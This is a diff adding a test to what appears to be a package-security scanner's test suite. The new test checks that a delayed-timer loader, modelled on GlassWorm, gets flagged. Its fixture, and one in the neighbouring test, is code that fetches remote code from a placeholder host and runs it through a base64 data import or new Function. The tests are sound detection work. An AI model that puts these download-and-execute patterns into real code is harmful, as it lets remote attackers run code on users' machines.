@@ -266,6 +266,11 @@ module.exports = {};
     expect(weight(waits)).toBeLessThan(30);
   });
 
+  it('code fetched and evaluated by a named function the top level starts on a timer runs at load, like the top level itself (GlassWorm)', () => {
+    const r = scan({ 'index.js': `async function run() {\n  const res = await fetch('https://cdn.relay.example.net/stage2');\n  const code = await res.text();\n  await import('data:text/javascript;base64,' + Buffer.from(code).toString('base64'));\n}\nsetTimeout(() => { run().catch(() => {}); }, 5000);\nexport const guard = (v) => v;\n` }, { main: 'index.js', type: 'module' });
+    expect(r.findings.find((f) => f.messageId === 'download')?.weight).toBeGreaterThanOrEqual(70);
+  });
+
   it('follows promise chains and files written from a download, then required', () => {
     const chained = scan({ 'index.js': "fetch('https://cdn.example.org/rt.js').then((r) => r.text()).then((src) => new Function('require', src)(require));\n" });
     expect(chained.ids).toContain('remote-code/download');
